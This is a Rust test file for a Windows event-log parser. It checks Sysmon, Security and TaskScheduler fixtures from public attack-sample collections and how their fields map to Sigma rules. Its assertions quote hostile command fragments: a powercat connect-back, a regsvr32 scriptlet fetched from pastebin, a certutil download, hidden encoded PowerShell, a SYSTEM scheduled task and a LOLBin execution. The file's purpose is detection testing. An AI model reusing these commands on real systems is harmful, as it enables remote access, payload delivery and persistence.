use std::collections::{BTreeMap, BTreeSet};
use std::fs::File;
use std::io::Cursor;

use super::fields::parse_uint;
use crate::parsers::evtx_read::EventData;

use super::*;

const FIX: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/fixtures/evtx/");
const SYSMON_MUSEUM: &str =
    "sysmon/museum-win10-aptsimulator/Microsoft-Windows-Sysmon%4Operational.evtx";
const SECURITY_MUSEUM: &str = "security/museum-server2022-aptsimulator/Security.evtx";
const TASKSCHED_MUSEUM: &str = "taskscheduler/museum-win2012r2-stolenszechuan/Microsoft-Windows-TaskScheduler%4Operational.evtx";

fn path(rel: &str) -> String {
    format!("{FIX}{rel}")
}

/// Typed events of a fixture, plus how many records the reader delivered in all.
fn load(rel: &str) -> (Vec<ExecEvent>, u64) {
    let f = File::open(path(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"));
    let mut out = Vec::new();
    let report = read_exec_events(f, |ev| {
        out.push(ev);
        ControlFlow::Continue(())
    })
    .unwrap_or_else(|e| panic!("{rel}: {e}"));
    (out, report.records_ok)
}

fn counts(evs: &[ExecEvent]) -> BTreeMap<u32, usize> {
    let mut m = BTreeMap::new();
    for e in evs {
        *m.entry(e.header().event_id).or_insert(0) += 1;
    }
    m
}

fn by_record(evs: &[ExecEvent], id: u64) -> &ExecEvent {
    evs.iter()
        .find(|e| e.header().record_id == id)
        .unwrap_or_else(|| panic!("no typed record {id}"))
}

fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
        serde_json::Value::Object(o) => o.values().for_each(|x| strings(x, out)),
        _ => {}
    }
}

/// Record ids of typed events whose typed string fields contain `needle`.
fn containing(evs: &[ExecEvent], needle: &str) -> Vec<u64> {
    let mut ids: Vec<u64> = evs
        .iter()
        .filter(|e| {
            let mut all = Vec::new();
            strings(&serde_json::to_value(e).unwrap(), &mut all);
            all.iter().any(|s| s.contains(needle))
        })
        .map(|e| e.header().record_id)
        .collect();
    ids.sort_unstable();
    ids
}

/// (file, records in file, typed per-EventID counts)
type CountCase = (&'static str, u64, &'static [(u32, usize)]);
type OwnedCountCase = (String, u64, Vec<(u32, usize)>);

fn m(pairs: &[(u32, usize)]) -> BTreeMap<u32, usize> {
    pairs.iter().copied().collect()
}

// ---- per-EventID counts (SOURCES.md file table) ----

#[test]
fn sysmon_counts_match_sources() {
    let cases: &[CountCase] = &[
        // 5×719, 4×1, 16×1 are not typed.
        (SYSMON_MUSEUM, 1402, &[(1, 681)]),
        (
            "sysmon/evtx-attack-samples/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx",
            8,
            &[(1, 4), (3, 3), (11, 1)],
        ),
        (
            "sysmon/evtx-attack-samples/exec_sysmon_lobin_regsvr32_sct.evtx",
            3,
            &[(1, 2), (3, 1)],
        ),
        (
            "sysmon/evtx-attack-samples/exec_sysmon_1_lolbin_pcalua.evtx",
            3,
            &[(1, 3)],
        ),
        (
            "sysmon/evtx-attack-samples/sysmon_mshta_sharpshooter_stageless_meterpreter.evtx",
            3,
            &[(1, 2), (3, 1)],
        ),
        (
            "sysmon/evtx-attack-samples/Sysmon_Exec_CompiledHTML.evtx",
            2,
            &[(1, 2)],
        ),
        (
            "sysmon/evtx-attack-samples/sysmon_11_1_lolbas_downldr_desktopimgdownldr.evtx",
            3,
            &[(1, 2), (11, 1)],
        ),
        (
            "sysmon/evtx-attack-samples/sysmon_1_11_rundll32_cpl_ostap.evtx",
            5,
            &[(1, 4), (11, 1)],
        ),
        (
            "sysmon/evtx-attack-samples/exec_emotet_sysmon_1.evtx",
            1,
            &[(1, 1)],
        ),
    ];
    for (rel, total, want) in cases {
        let (evs, n) = load(rel);
        assert_eq!(n, *total, "{rel} records");
        assert_eq!(counts(&evs), m(want), "{rel}");
        for e in &evs {
            let ok = match e.header().event_id {
                1 => matches!(e, ExecEvent::SysmonProcessCreate(_)),
                3 => matches!(e, ExecEvent::SysmonNetworkConnect(_)),
                11 => matches!(e, ExecEvent::SysmonFileCreate(_)),
                _ => false,
            };
            assert!(ok, "{rel}: wrong variant for {:?}", e.header());
        }
    }
}

#[test]
fn security_counts_match_sources() {
    let md = "security/mdecrevoisier/";
    let cases: Vec<OwnedCountCase> = vec![
        (
            format!("{md}ID4688-Encoded PowerShell MSF payload via process execution.evtx"),
            59,
            vec![(4688, 58), (4697, 1)],
        ),
        (
            format!("{md}ID4688-Edge payload download via command.evtx"),
            7,
            vec![(4688, 7)],
        ),
        (
            format!(
                "{md}ID4688-4698 Persistent scheduled task with SYSTEM privileges creation.evtx"
            ),
            4,
            vec![(4688, 3), (4698, 1)],
        ),
        (
            format!("{md}ID4698-4699-Fast created & deleted task by ATexec (susp. arg.).evtx"),
            2,
            vec![(4698, 1), (4699, 1)],
        ),
        // 1102 (log cleared, provider Microsoft-Windows-Eventlog) is typed as `log_cleared`.
        (
            format!("{md}ID4688-Certutil download.evtx"),
            2,
            vec![(1102, 1), (4688, 1)],
        ),
        (
            "security/deepbluecli/psattack-security.evtx".into(),
            24,
            vec![(1102, 1), (4688, 23)],
        ),
        (
            "security/evtx-attack-samples/temp_scheduled_task_4698_4699.evtx".into(),
            2,
            vec![(4698, 1), (4699, 1)],
        ),
    ];
    for (rel, total, want) in &cases {
        let (evs, n) = load(rel);
        assert_eq!(n, *total, "{rel} records");
        assert_eq!(counts(&evs), m(want), "{rel}");
    }
    // Only the 4688 count of this one is in the table (+26 more ids are elided).
    let (evs, n) = load(SECURITY_MUSEUM);
    assert_eq!(n, 583);
    assert_eq!(counts(&evs).get(&4688), Some(&34));
    assert!(
        evs.iter()
            .filter(|e| e.header().event_id == 4688)
            .all(|e| matches!(e, ExecEvent::SecurityProcessCreate(_)))
    );
}

#[test]
fn taskscheduler_counts_match_sources() {
    let (evs, n) = load(TASKSCHED_MUSEUM);
    assert_eq!(n, 604);
    let c = counts(&evs);
    for (id, want) in [
        (100, 95),
        (200, 95),
        (129, 80),
        (102, 69),
        (201, 69),
        (140, 56),
        (119, 47),
        (108, 25),
        (118, 15),
        (103, 7),
        (202, 7),
        (110, 6),
    ] {
        assert_eq!(c.get(&id), Some(&want), "TaskScheduler {id}");
    }
    // Same ids with another meaning elsewhere / untyped ids must not leak in.
    for id in [324, 325, 400, 402] {
        assert!(!c.contains_key(&id), "{id} typed");
    }
    assert!(
        evs.iter()
            .all(|e| matches!(e, ExecEvent::TaskSchedulerOp(_)))
    );
    // Two host names in one log (renamed host).
    let hosts: BTreeSet<&str> = evs.iter().map(|e| e.header().computer.as_str()).collect();
    assert!(hosts.contains("WIN-E0PO207ERMD.C137.local"));
    assert!(hosts.contains("CITADEL-DC01.C137.local"));
}

// ---- expected substrings (SOURCES.md "Expected substrings") ----

#[test]
fn sysmon_museum_substrings() {
    let (evs, _) = load(SYSMON_MUSEUM);
    let cl = |id| {
        by_record(&evs, id)
            .command_line()
            .unwrap_or_default()
            .to_string()
    };
    assert!(cl(529).contains("/tn GameOver /tr"));
    assert!(cl(288).contains("powercat -c www.googleaccountsservices.com"));
    assert!(cl(519).contains("Invoke-Tasksbackdoor -method cmd"));
    assert_eq!(containing(&evs, "/tn GameOver /tr"), vec![529]);
    assert_eq!(
        containing(&evs, "powercat -c www.googleaccountsservices.com"),
        vec![288]
    );
    assert_eq!(
        containing(&evs, "Invoke-Tasksbackdoor -method cmd"),
        vec![519]
    );
    assert_eq!(containing(&evs, "UserInitMprLogonScript"), vec![683]);
    // This config logs SHA256 only.
    let ExecEvent::SysmonProcessCreate(p) = by_record(&evs, 529) else {
        panic!("529 not Sysmon 1")
    };
    assert_eq!(p.header.computer, "DESKTOP-TMKU40H");
    assert!(p.hashes.contains_key("sha256"));
    assert!(p.parent_user.is_some(), "Sysmon 13 schema has ParentUser");
}

#[test]
fn sysmon_attack_samples_substrings() {
    let d = "sysmon/evtx-attack-samples/";
    let cases: &[(&str, &str, &[u64])] = &[
        (
            "exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx",
            "/TN MSOFFICE_ /TR",
            &[5],
        ),
        (
            "exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx",
            "mshtml,RunHTMLApplication",
            &[1, 2, 3],
        ),
        (
            "exec_sysmon_lobin_regsvr32_sct.evtx",
            "/i:http://pastebin.com/raw/H4A4iDTA scrobj.dll",
            &[1, 2],
        ),
        (
            "exec_sysmon_1_lolbin_pcalua.evtx",
            "pcalua.exe\"  -a c:\\Windows\\system32\\calc.exe",
            &[2, 3],
        ),
        (
            "sysmon_mshta_sharpshooter_stageless_meterpreter.evtx",
            "update.hta",
            &[1],
        ),
        (
            "Sysmon_Exec_CompiledHTML.evtx",
            "Fax Record N104F.chm",
            &[1, 2],
        ),
        (
            "sysmon_11_1_lolbas_downldr_desktopimgdownldr.evtx",
            "/lockscreenurl:https://a.uguu.se/",
            &[1, 2],
        ),
        (
            "sysmon_1_11_rundll32_cpl_ostap.evtx",
            "Invoice@0582.cpl",
            &[1, 2, 3, 4, 5],
        ),
        (
            "sysmon_1_11_rundll32_cpl_ostap.evtx",
            "JScript.Encode",
            &[5],
        ),
        ("exec_emotet_sysmon_1.evtx", "Dyxxur4gx.exe", &[1]),
    ];
    for (file, needle, want) in cases {
        let (evs, _) = load(&format!("{d}{file}"));
        assert_eq!(containing(&evs, needle), *want, "{file}: {needle}");
    }
    let (evs, _) = load(&format!("{d}exec_sysmon_lobin_regsvr32_sct.evtx"));
    // Record 1 is regsvr32 itself; record 2 is the cmd.exe it spawned.
    let sct = "/i:http://pastebin.com/raw/H4A4iDTA scrobj.dll";
    assert!(by_record(&evs, 1).command_line().unwrap().contains(sct));
    assert!(
        by_record(&evs, 2)
            .parent_command_line()
            .unwrap()
            .contains(sct)
    );
    let (evs, _) = load(&format!(
        "{d}exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx"
    ));
    assert!(
        by_record(&evs, 5)
            .command_line()
            .unwrap()
            .contains("/TN MSOFFICE_ /TR")
    );
}

#[test]
fn security_substrings() {
    let md = "security/mdecrevoisier/";
    let cases: &[(&str, &str, &[u64])] = &[
        (
            "security/museum-server2022-aptsimulator/Security.evtx",
            "C:\\Windows\\System32\\lsass.exe",
            &[14, 131, 426],
        ),
        (
            "ID4688-Encoded PowerShell MSF payload via process execution.evtx",
            "-nop -w hidden -noni -c",
            &[1, 2, 3],
        ),
        (
            "ID4688-Encoded PowerShell MSF payload via process execution.evtx",
            "System.IO.Compression.GzipStream",
            &[1, 2, 3, 5],
        ),
        (
            "ID4688-Edge payload download via command.evtx",
            "mimikatz_trunk.zip",
            &[1],
        ),
        (
            "ID4688-4698 Persistent scheduled task with SYSTEM privileges creation.evtx",
            "/tn eviltask /tr C:\\tools\\shell.cmd /ru SYSTEM",
            &[1],
        ),
        (
            "ID4688-4698 Persistent scheduled task with SYSTEM privileges creation.evtx",
            "\\eviltask",
            &[2],
        ),
        (
            "ID4698-4699-Fast created & deleted task by ATexec (susp. arg.).evtx",
            "\\bouWFQYO",
            &[1, 2],
        ),
        (
            "ID4688-Certutil download.evtx",
            "certutil  -urlcache -split -f",
            &[2],
        ),
        (
            "security/deepbluecli/psattack-security.evtx",
            "PSAttack.exe",
            &[6, 13],
        ),
        (
            "security/evtx-attack-samples/temp_scheduled_task_4698_4699.evtx",
            "\\CYAlyNSS",
            &[1, 2],
        ),
    ];
    for (file, needle, want) in cases {
        let rel = if file.starts_with("security/") {
            file.to_string()
        } else {
            format!("{md}{file}")
        };
        let (evs, _) = load(&rel);
        assert_eq!(containing(&evs, needle), *want, "{file}: {needle}");
    }

    let (evs, _) = load(&format!("{md}ID4688-Certutil download.evtx"));
    let e = by_record(&evs, 2);
    assert!(
        e.command_line()
            .unwrap()
            .contains("certutil  -urlcache -split -f")
    );

    let (evs, _) = load(&format!(
        "{md}ID4688-4698 Persistent scheduled task with SYSTEM privileges creation.evtx"
    ));
    let ExecEvent::SecurityTask(t) = by_record(&evs, 2) else {
        panic!("record 2 not a 4698")
    };
    assert_eq!(t.action, TaskAuditAction::Created);
    assert_eq!(t.task_name.as_deref(), Some("\\eviltask"));
    let xml = t.task_content.as_deref().unwrap();
    assert!(xml.contains("<Exec>") && xml.contains("C:\\tools\\shell.cmd"));
    assert!(xml.starts_with("<?xml"), "kept raw");
    assert_eq!(t.subject_user_name.as_deref(), Some("admmig"));

    // Hex pids: NewProcessId 0x15b4, creator ProcessId 0x17e8.
    let ExecEvent::SecurityProcessCreate(p) = by_record(&evs, 1) else {
        panic!("record 1 not a 4688")
    };
    assert_eq!(p.new_process_id_raw.as_deref(), Some("0x15b4"));
    assert_eq!(p.new_process_id, Some(0x15b4));
    assert_eq!(p.creator_process_id, Some(0x17e8));
    assert_eq!(p.token_elevation_type, Some(TokenElevationType::Full));
    assert_eq!(p.integrity_level, Some(IntegrityLevel::High));
    assert_eq!(
        p.parent_process_name.as_deref(),
        Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );

    let (evs, _) = load(&format!(
        "{md}ID4688-Encoded PowerShell MSF payload via process execution.evtx"
    ));
    let svc = evs
        .iter()
        .find_map(|e| match e {
            ExecEvent::SecurityServiceInstall(s) => Some(s),
            _ => None,
        })
        .unwrap();
    assert_eq!(svc.service_name.as_deref(), Some("iOWamcEn"));
    assert_eq!(svc.service_account.as_deref(), Some("LocalSystem"));
    assert!(
        svc.service_file_name
            .as_deref()
            .unwrap()
            .contains("-nop -w hidden -noni -c")
    );
    assert_eq!(svc.service_start_type.as_deref(), Some("3"));
}

#[test]
fn security_4688_without_command_line() {
    let (evs, _) = load(SECURITY_MUSEUM);
    let procs: Vec<&SecurityProcessCreate> = evs
        .iter()
        .filter_map(|e| match e {
            ExecEvent::SecurityProcessCreate(p) => Some(p),
            _ => None,
        })
        .collect();
    assert_eq!(procs.len(), 34);
    assert_eq!(
        procs.iter().filter(|p| p.command_line.is_none()).count(),
        34
    );
    assert!(procs.iter().all(|p| p.new_process_id.is_some()));
    assert!(procs.iter().all(|p| p.new_process_name.is_some()));
}

#[test]
fn old_4688_schema_lacks_parent() {
    // Windows 7: no ParentProcessName / Target* / MandatoryLabel.
    let (evs, _) = load("security/deepbluecli/psattack-security.evtx");
    let Some(ExecEvent::SecurityProcessCreate(p)) = evs.iter().find(|e| e.is_process_creation())
    else {
        panic!("no 4688")
    };
    let first = evs.iter().find(|e| e.is_process_creation()).unwrap();
    assert!(p.parent_process_name.is_none() && p.mandatory_label.is_none());
    assert!(p.command_line.is_some() && p.new_process_id.is_some());
    assert_eq!(p.token_elevation_type, Some(TokenElevationType::Limited));
    assert_eq!(first.parent_image(), None);
}

#[test]
fn taskscheduler_fields() {
    let (evs, _) = load(TASKSCHED_MUSEUM);
    assert_eq!(
        containing(
            &evs,
            "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask"
        )
        .len(),
        37
    );
    assert_eq!(
        containing(
            &evs,
            "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask"
        )[..4],
        [15, 16, 39, 123]
    );
    let op = |id| match by_record(&evs, id) {
        ExecEvent::TaskSchedulerOp(t) => t.clone(),
        other => panic!("{other:?}"),
    };
    let launch = op(1);
    assert_eq!(launch.operation, TaskSchedulerOperation::ProcessLaunched);
    assert_eq!(
        launch.task_name.as_deref(),
        Some("\\Microsoft\\Windows\\TPM\\Tpm-Maintenance")
    );
    assert_eq!(launch.path.as_deref(), Some("taskhost.exe"));
    assert_eq!(launch.process_id, Some(1052));
    assert_eq!(launch.priority, Some(16384));
    let started = op(2);
    assert_eq!(started.operation, TaskSchedulerOperation::TaskStarted);
    assert_eq!(
        started.user_context.as_deref(),
        Some("NT AUTHORITY\\LOCAL SERVICE")
    );
    assert_eq!(
        started.instance_id.as_deref(),
        Some("{db9a64b1-0014-4785-931a-c7ac86671f19}")
    );
    let action = op(3);
    assert_eq!(action.operation, TaskSchedulerOperation::ActionStarted);
    assert_eq!(
        action.action_name.as_deref(),
        Some("TPM Maintenance Task Handler")
    );
    assert_eq!(action.engine_pid, Some(1052));
    let failed = op(5);
    assert_eq!(failed.operation, TaskSchedulerOperation::ActionStartFailed);
    assert_eq!(failed.result_code, Some(0x8007_0002));
    let done = op(6);
    assert_eq!(done.operation, TaskSchedulerOperation::ActionCompleted);
    assert_eq!(done.result_code, Some(0));
    let reg = op(92);
    assert_eq!(reg.operation, TaskSchedulerOperation::TaskRegistered);
    assert_eq!(reg.user_context.as_deref(), Some("C137\\Administrator"));
    let upd = op(16);
    assert_eq!(upd.operation, TaskSchedulerOperation::TaskUpdated);
    assert_eq!(upd.user_name.as_deref(), Some("C137\\WIN-E0PO207ERMD$"));
    let by_user = op(367);
    assert_eq!(by_user.operation, TaskSchedulerOperation::TriggeredByUser);
    assert_eq!(
        by_record(&evs, 367).sigma_field("TaskName").as_deref(),
        Some("\\Microsoft\\Windows\\Application Experience\\AitAgent")
    );
}

// ---- Hashes, Sigma mapping ----

#[test]
fn sysmon_hashes_and_fields() {
    let (evs, _) = load(
        "sysmon/evtx-attack-samples/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx",
    );
    let ExecEvent::SysmonProcessCreate(p) = by_record(&evs, 1) else {
        panic!()
    };
    assert_eq!(
        p.hashes.get("sha256").map(String::as_str),
        Some("17f746d82695fa9b35493b41859d39d786d32b23a9d2e00f4011dec7a02402ae")
    );
    assert_eq!(
        p.hashes.get("md5").map(String::as_str),
        Some("ad7b9c14083b52bc532fba5948342b98")
    );
    assert_eq!(
        p.hashes.get("imphash").map(String::as_str),
        Some("ceefb55f764020cc5c5f8f23349ab163")
    );
    assert_eq!(p.hashes.len(), 4);
    assert_eq!(p.process_id, Some(1532));
    assert_eq!(p.parent_process_id, Some(3548));
    assert_eq!(p.terminal_session_id, Some(1));
    assert_eq!(p.integrity_level, Some(IntegrityLevel::High));
    assert_eq!(p.logon_id.as_deref(), Some("0xc796"));
    assert_eq!(p.rule_name, None, "empty RuleName is absent");
    assert_eq!(
        p.utc_time.map(|t| t.to_rfc3339()),
        Some("2019-05-21T15:32:57.276+00:00".into())
    );
    // Sysmon 6 schema: no OriginalFileName / ParentUser.
    assert!(p.original_file_name.is_none() && p.parent_user.is_none());
    let e = by_record(&evs, 1);
    assert_eq!(
        e.sigma_field("md5").as_deref(),
        Some("ad7b9c14083b52bc532fba5948342b98")
    );
    assert!(
        e.sigma_field("Hashes")
            .unwrap()
            .starts_with("SHA1=EE8CBF12")
    );
    assert_eq!(e.sigma_field("IntegrityLevel").as_deref(), Some("High"));
    assert_eq!(e.sigma_field("ParentProcessId").as_deref(), Some("3548"));
    assert_eq!(e.user(), Some("IEWIN7\\IEUser"));
    assert_eq!(e.parent_image(), Some("C:\\Windows\\System32\\cmd.exe"));
    assert!(e.parent_command_line().unwrap().contains("pushd"));

    let ExecEvent::SysmonNetworkConnect(c) = by_record(&evs, 4) else {
        panic!()
    };
    assert_eq!(c.initiated, Some(true));
    assert_eq!(c.protocol.as_deref(), Some("tcp"));
    assert_eq!(c.destination_ip.as_deref(), Some("108.179.232.58"));
    assert_eq!(
        c.destination_hostname.as_deref(),
        Some("gator4243.hostgator.com")
    );
    assert_eq!(c.destination_port, Some(443));
    assert_eq!(c.source_port, Some(49703));
    assert_eq!(c.process_id, Some(2432));
    let e = by_record(&evs, 4);
    assert_eq!(e.sigma_field("DestinationPort").as_deref(), Some("443"));
    assert_eq!(e.sigma_field("Initiated").as_deref(), Some("true"));
    assert_eq!(e.image(), Some("C:\\Windows\\System32\\mshta.exe"));
    assert_eq!(e.command_line(), None);

    let ExecEvent::SysmonFileCreate(f) = by_record(&evs, 6) else {
        panic!()
    };
    assert_eq!(
        f.target_filename.as_deref(),
        Some("C:\\Windows\\System32\\Tasks\\MSOFFICE_")
    );
    assert_eq!(f.process_id, Some(856));
    assert!(f.creation_utc_time.is_some());
    assert_eq!(
        by_record(&evs, 6).sigma_field("TargetFilename").as_deref(),
        Some("C:\\Windows\\System32\\Tasks\\MSOFFICE_")
    );
}

#[test]
fn sigma_mapping_for_4688() {
    let (evs, _) = load(
        "security/mdecrevoisier/ID4688-4698 Persistent scheduled task with SYSTEM privileges creation.evtx",
    );
    let e = by_record(&evs, 1);
    assert!(e.is_process_creation());
    assert_eq!(
        e.sigma_field("Image").as_deref(),
        Some("C:\\Windows\\System32\\schtasks.exe")
    );
    assert_eq!(e.image(), Some("C:\\Windows\\System32\\schtasks.exe"));
    assert_eq!(
        e.sigma_field("ParentImage").as_deref(),
        Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
    assert_eq!(e.sigma_field("User").as_deref(), Some("admmig"));
    assert_eq!(
        e.sigma_field("user").as_deref(),
        Some("admmig"),
        "case-insensitive"
    );
    assert_eq!(e.sigma_field("ProcessId").as_deref(), Some("5556"));
    assert_eq!(e.sigma_field("ParentProcessId").as_deref(), Some("6120"));
    assert_eq!(e.sigma_field("NewProcessId").as_deref(), Some("0x15b4"));
    assert_eq!(e.sigma_field("IntegrityLevel").as_deref(), Some("High"));
    assert_eq!(
        e.sigma_field("MandatoryLabel").as_deref(),
        Some("S-1-16-12288")
    );
    assert_eq!(
        e.sigma_field("TokenElevationType").as_deref(),
        Some("%%1937")
    );
    assert_eq!(e.sigma_field("EventID").as_deref(), Some("4688"));
    assert_eq!(e.sigma_field("Channel").as_deref(), Some("Security"));
    assert_eq!(
        e.sigma_field("Computer").as_deref(),
        Some("srvdefender01.offsec.lan")
    );
    assert_eq!(e.sigma_field("OriginalFileName"), None);
    assert_eq!(e.sigma_field("NoSuchField"), None);
    assert!(
        e.sigma_field("CommandLine")
            .unwrap()
            .contains("/tn eviltask")
    );
    let task = by_record(&evs, 2);
    assert!(!task.is_process_creation());
    assert_eq!(task.sigma_field("TaskName").as_deref(), Some("\\eviltask"));
    assert!(task.sigma_field("TaskContent").unwrap().contains("<Exec>"));
    assert_eq!(task.command_line(), None);
}

/// SOURCES.md "Sigma rules and regression pairs": the key field of each regression event,
/// and the same value in the reference JSON rendering shipped next to it.
#[test]
fn sigma_regression_events() {
    let cases: &[(&str, u32, &str, &str, &str)] = &[
        (
            "proc_creation_win_powershell_base64_invoke/6385697e-9f1b-40bd-8817-f4a91f40508e",
            1,
            "swachchhanda",
            "CommandLine",
            "powershell  -exec bypass -e SQBuAHYAbwBrAGUALQBXAG0AaQBNAGUAdABoAG8AZAAgAC0AUABh",
        ),
        (
            "proc_creation_win_conhost_headless_powershell/056c7317-9a09-4bd4-9067-d051312752ea",
            1,
            "ar-win-dc.attackrange.local",
            "CommandLine",
            "conhost  --headless powershell calc",
        ),
        (
            "proc_creation_win_hh_chm_execution/68c8acb4-1b60-4890-8e82-3ddf7a6dba84",
            1,
            "ar-win-dc.attackrange.local",
            "CommandLine",
            "\"C:\\Windows\\hh.exe\" C:\\Windows\\IME\\IMETC\\HELP\\IMTCTC14.CHM",
        ),
        (
            "proc_creation_win_rundll32_unc_path/5cdb711b-5740-4fb2-ba88-f7945027afac",
            1,
            "swachchhanda",
            "CommandLine",
            "rundll32.exe  '\\\\172.16.205.1\\pwn\\test.dll,0'",
        ),
        (
            "proc_creation_win_schtasks_delete/dbc1f800-0fe0-4bc0-9c66-292c2abe3f78",
            1,
            "swachchhanda",
            "CommandLine",
            "schtasks  /delete /f /tn \"\\Microsoft\\Windows\\SystemRestore\\SR\"",
        ),
        (
            "proc_creation_win_schtasks_disable/9ac94dc8-9042-493c-ba45-3b5e7c86b980",
            1,
            "swachchhanda",
            "CommandLine",
            "schtasks.exe  /Change /TN \"\\Microsoft\\Windows\\SystemRestore\\SR\" /disable",
        ),
        (
            "proc_creation_win_certutil_decode/cc9cbe82-7bc0-4ef5-bc23-bbfb83947be7",
            1,
            "ar-win-dc.attackrange.local",
            "CommandLine",
            "certutil  -decode file.base64 file-decoded.ext",
        ),
        (
            "proc_creation_win_lolbin_sftp_indirect_cmd_execution/762bb580-79b4-40f4-8b9e-9349ce1710f4",
            1,
            "swachchhanda",
            "CommandLine",
            "sftp  -o ProxyCommand=\"cmd /c c:\\windows\\system32\\calc.exe\" .",
        ),
        (
            "win_security_susp_scheduled_task_delete_or_disable/7595ba94-cf3b-4471-aa03-4f6baa9e5fad",
            4701,
            "swachchhanda",
            "TaskName",
            "\\Microsoft\\Windows\\SystemRestore\\SR",
        ),
        (
            "win_taskscheduler_susp_schtasks_delete_or_disable/9e3cb244-bdb8-4632-8c90-6079c8f4f16d",
            142,
            "swachchhanda",
            "TaskName",
            "\\Microsoft\\Windows\\SystemRestore\\SR",
        ),
    ];
    for (stem, id, computer, field, value) in cases {
        let (evs, n) = load(&format!("sigma-regression/{stem}.evtx"));
        assert_eq!((n, evs.len()), (1, 1), "{stem}");
        let e = &evs[0];
        assert_eq!(e.header().event_id, *id, "{stem}");
        assert_eq!(e.header().computer, *computer, "{stem}");
        let got = e
            .sigma_field(field)
            .unwrap_or_else(|| panic!("{stem}: no {field}"));
        // The base64 one is listed truncated in SOURCES.md, and the rundll32 UNC one with
        // its backslashes halved: the event (and the reference JSON) has them doubled.
        assert!(
            got.starts_with(value) || got.replace("\\\\", "\\").starts_with(value),
            "{stem}: {got}"
        );
        if *id == 1 {
            assert_eq!(e.command_line(), Some(got.as_ref()));
            assert!(matches!(e, ExecEvent::SysmonProcessCreate(_)));
        }
        let json: serde_json::Value = serde_json::from_slice(
            &std::fs::read(path(&format!("sigma-regression/{stem}.json"))).unwrap(),
        )
        .unwrap();
        let reference = json["Event"]["EventData"][field].as_str().unwrap();
        assert_eq!(got, reference, "{stem}");
    }
    let (evs, _) = load(
        "sigma-regression/win_security_susp_scheduled_task_delete_or_disable/7595ba94-cf3b-4471-aa03-4f6baa9e5fad.evtx",
    );
    let ExecEvent::SecurityTask(t) = &evs[0] else {
        panic!()
    };
    assert_eq!(t.action, TaskAuditAction::Disabled);
    assert_eq!(t.client_process_id, Some(5204));
    assert_eq!(t.parent_process_id, Some(15816));
    assert_eq!(t.client_process_start_key, Some(2251799813691708));
    assert_eq!(t.fqdn.as_deref(), Some("swachchhanda"));
    let (evs, _) = load(
        "sigma-regression/win_taskscheduler_susp_schtasks_delete_or_disable/9e3cb244-bdb8-4632-8c90-6079c8f4f16d.evtx",
    );
    let ExecEvent::TaskSchedulerOp(t) = &evs[0] else {
        panic!()
    };
    assert_eq!(t.operation, TaskSchedulerOperation::TaskDisabled);
    assert_eq!(t.user_name.as_deref(), Some("System"));
    assert_eq!(evs[0].user(), Some("System"));
}

#[test]
fn serde_shape_and_round_trip() {
    let (evs, _) = load("sysmon/evtx-attack-samples/exec_emotet_sysmon_1.evtx");
    let v = serde_json::to_value(&evs[0]).unwrap();
    assert_eq!(v["kind"], "sysmon_process_create");
    assert!(v["header"]["time"].as_str().unwrap().ends_with('Z'));
    assert_eq!(v["header"]["record_id"], 1);
    assert!(
        v["command_line"]
            .as_str()
            .unwrap()
            .contains("Dyxxur4gx.exe")
    );
    let back: ExecEvent = serde_json::from_value(v).unwrap();
    assert_eq!(back, evs[0]);
    let (evs, _) = load(SECURITY_MUSEUM);
    let v = serde_json::to_value(&evs[0]).unwrap();
    assert_eq!(v["kind"], "security_process_create");
    assert!(v.get("command_line").is_none(), "None is not serialized");
    assert_eq!(serde_json::from_value::<ExecEvent>(v).unwrap(), evs[0]);
}

// ---- keying and hostile input ----

fn raw(provider: &str, channel: &str, id: u32, named: &[(&str, &str)]) -> RawEvent {
    RawEvent {
        record_id: 7,
        time: None,
        event_id: id,
        provider: provider.into(),
        channel: channel.into(),
        computer: "HOST".into(),
        user_sid: None,
        process_id: None,
        thread_id: None,
        level: None,
        data: EventData {
            named: named
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            ..EventData::default()
        },
        ..raw_default()
    }
}

fn raw_default() -> RawEvent {
    let mut ev = None;
    let data = std::fs::read(path(SECURITY_MUSEUM)).unwrap();
    let _ = crate::parsers::evtx_read::read_events(Cursor::new(data), |e| {
        ev = Some(e);
        std::ops::ControlFlow::Break(())
    });
    ev.unwrap()
}

#[test]
fn keyed_on_provider_and_channel() {
    let cl = [("CommandLine", "calc.exe")];
    assert!(exec_event_from_raw(&raw(SYSMON_PROVIDER, SYSMON_CHANNEL, 1, &cl)).is_some());
    // Event id 1 from other providers / channels is not Sysmon.
    assert!(
        exec_event_from_raw(&raw("Microsoft-Windows-Kernel-General", "System", 1, &cl)).is_none()
    );
    assert!(exec_event_from_raw(&raw("Application Error", "Application", 1, &cl)).is_none());
    assert!(exec_event_from_raw(&raw(SYSMON_PROVIDER, "Application", 1, &cl)).is_none());
    assert!(exec_event_from_raw(&raw("SomeoneElse", SYSMON_CHANNEL, 1, &cl)).is_none());
    // 4688 only from the Security auditing provider.
    assert!(exec_event_from_raw(&raw("EvilApp", "Security", 4688, &cl)).is_none());
    // TaskScheduler 400/402/800 are not typed; 800 in PowerShell means something else.
    for id in [400, 402, 800] {
        assert!(
            exec_event_from_raw(&raw(
                TASK_SCHEDULER_PROVIDER,
                TASK_SCHEDULER_CHANNEL,
                id,
                &[]
            ))
            .is_none()
        );
    }
    // Case differences in provider/channel text are tolerated.
    assert!(
        exec_event_from_raw(&raw(
            "microsoft-windows-sysmon",
            "microsoft-windows-sysmon/operational",
            11,
            &[]
        ))
        .is_some()
    );
    // Untyped Sysmon ids.
    assert!(exec_event_from_raw(&raw(SYSMON_PROVIDER, SYSMON_CHANNEL, 5, &[])).is_none());
}

#[test]
fn hostile_field_values() {
    let big = "A".repeat(1 << 20);
    let ev = raw(
        SYSMON_PROVIDER,
        SYSMON_CHANNEL,
        1,
        &[
